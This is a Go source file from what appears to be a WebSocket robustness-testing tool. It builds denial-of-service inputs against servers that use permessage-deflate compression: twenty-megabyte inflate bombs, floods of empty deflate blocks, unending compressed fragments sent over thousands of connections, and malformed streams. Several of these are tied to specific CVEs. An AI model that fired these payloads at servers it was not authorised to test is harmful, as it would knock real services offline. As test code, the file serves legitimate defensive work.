package attack

import (
	"bytes"
	"compress/flate"
	"fmt"
	"strings"
)

// compressing are the ways on which messages may be compressed (RFC 7692).
var compressing = []Way{ws4, ws3, up4, up3, wss4}

const offerDeflate = "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits"

// deflated is a message as a client compresses it.
func deflated(message string) string {
	var out bytes.Buffer
	w, err := flate.NewWriter(&out, flate.BestCompression)
	if err == nil {
		_, err = w.Write([]byte(message))
	}
	if err == nil {
		err = w.Flush()
	}
	if err != nil {
		panic(err) // it is all in memory
	}
	return strings.TrimSuffix(out.String(), "\x00\x00\xff\xff")
}

// agreed opens a WebSocket whose messages may be compressed.
func (a *Attacker) agreed(w Way) (*conn, error) {
	c, err := a.webSocket(w, offerDeflate)
	if err != nil {
		return nil, err
	}
	if got := c.agreed.Get("Sec-WebSocket-Extensions"); !strings.HasPrefix(got, "permessage-deflate") {
		return nil, fmt.Errorf("no WebSocket that compresses: %q", got)
	}
	return c, nil
}

// explodes is an input: frames on such a WebSocket, the last of them so often, and whether the server has to end it.
func explodes(name string, ends bool, short, long int, frames ...[]byte) Input {
	return Input{name, func(a *Attacker, w Way) error {
		c, err := a.agreed(w)
		if err != nil {
			return err
		}
		last := len(frames) - 1
		for _, f := range frames[:last] {
			if err := c.write(f); err != nil {
				return err
			}
		}
		if n := a.count(short, long); n > 1 {
			err = c.flood(frames[last], n)
		} else {
			err = c.write(frames[last])
		}
		if err == nil && ends {
			err = c.end()
		}
		return err
	}}
}

// bombs are attacks by compressed messages (RFC 7692).
func bombs() []Family {
	const pressed = 0x40
	// A block with codes of its own, of an empty message: what takes longest to begin.
	codes := deflated(strings.Repeat("abcdefgh01234567", 4) + "zyx")
	huge := deflated(strings.Repeat("4", 20<<20))
	event := `42["x","` + strings.Repeat("0", maxPayload-100) + `"]`
	whole := func(payload string) []byte { return frame(pressed|finText, payload) }
	return []Family{
		{"messages that unfold", "inflate bombs, RFC 7692; NATS CVE-2026-27571, Centrifugo CVE-2026-62963", compressing, []Input{
			explodes("a thousandfold, within the limit", false, 30, 1000, whole(deflated(event))),
			explodes("a thousandfold, over the limit", true, 1, 1, whole(deflated("4"+strings.Repeat(" ", 4<<20)))),
			explodes("twenty megabytes", true, 1, 1, whole(huge)),
			explodes("twenty megabytes, in fragments", true, 1, 1, frame(pressed|text, huge[:10_000]), frame(finMore, huge[10_000:])),
			explodes("twenty megabytes, in binary", true, 1, 1, frame(pressed|finBinary, huge)),
		}},
		{"blocks without number", "RFC 7692 §7.2.1", compressing, []Input{
			explodes("last ones", true, 1, 20, whole(strings.Repeat("\x03\x00", 400_000))),
			explodes("empty ones", true, 1, 20, whole(strings.Repeat("\x00\x00\x00\xff\xff", 180_000)+"\x00")),
			explodes("with codes of their own", true, 1, 20, whole(strings.Repeat(codes+"\x00\x00\xff\xff", 900_000/(len(codes)+4))+"\x00")),
			explodes("more bytes of them than a message may have", true, 1, 1, announce(pressed|finText, 2*maxPayload)),
		}},
		{"compressed fragments without end", "ws CVE-2026-48779, CVE-2026-62389", compressing, []Input{
			explodes("of one byte", false, 16_000, 900_000, frame(pressed|text, deflated(event)[:100]), frame(more, "\x00")),
			explodes("of no byte", false, 16_000, 2_000_000, frame(pressed|text, deflated(event)[:100]), frame(more, "")),
			{"on many connections", func(a *Attacker, w Way) error {
				for range a.count(200, 10_000) {
					c, err := a.agreed(w)
					if err != nil {
						return err
					}
					if err := c.write(frame(pressed|text, deflated(event)[:900])); err != nil {
						return err
					}
				}
				return nil
			}},
		}},
		{"compressed attachments that are never all there", "socketioxide GHSA-55mf-67qm-4wpg; inflate bombs, RFC 7692", compressing, []Input{
			{"on many connections", func(a *Attacker, w Way) error {
				frames := frame(finText, `4510-["x",`+strings.Repeat(held+",", 9)+held+"]")
				if w.Revision == 4 {
					frames = append(frame(finText, "40"), frames...)
				}
				frames = append(frames, bytes.Repeat(frame(pressed|finBinary, deflated("\x04"+strings.Repeat("4", maxPayload-100))), 9)...)
				for range a.count(20, 500) {
					c, err := a.agreed(w)
					if err != nil {
						return err
					}
					if err := c.write(frames); err != nil {
						return err
					}
				}
				return nil
			}},
		}},
		{"compressed messages that are broken", "RFC 7692 §6, §7.2.2", compressing, []Input{
			explodes("noise", true, 1, 1, whole("hello, hello")),
			explodes("a reserved block", true, 1, 1, whole("\x06\x00")),
			explodes("a window that is not there", true, 1, 1, whole("\xf2\x00\x11\x00\x00")),
			explodes("a distance of a code that has none", true, 1, 1, whole("\x0c\xc0\x01\x09\x00\x00\x00\x80\xa0\xad\xfe\x3f\x51\x58\x00")),
			explodes("a code without an end of the block", true, 1, 1, whole("$\x00\x80$\xc9\r\x80$\xc9")),
			explodes("the bit on a continuation", true, 1, 1, frame(pressed|text, "\xf2\x48"), frame(pressed|finMore, "\xcd\x00")),
			explodes("the bit on a ping", true, 1, 1, frame(pressed|finPing, "x")),
			explodes("text that is no UTF-8", true, 1, 1, whole(deflated("4\xff\xfe"))),
			explodes("a reserved bit besides", true, 1, 1, frame(0x20|pressed|finText, deflated("4x"))),
		}},
	}
}
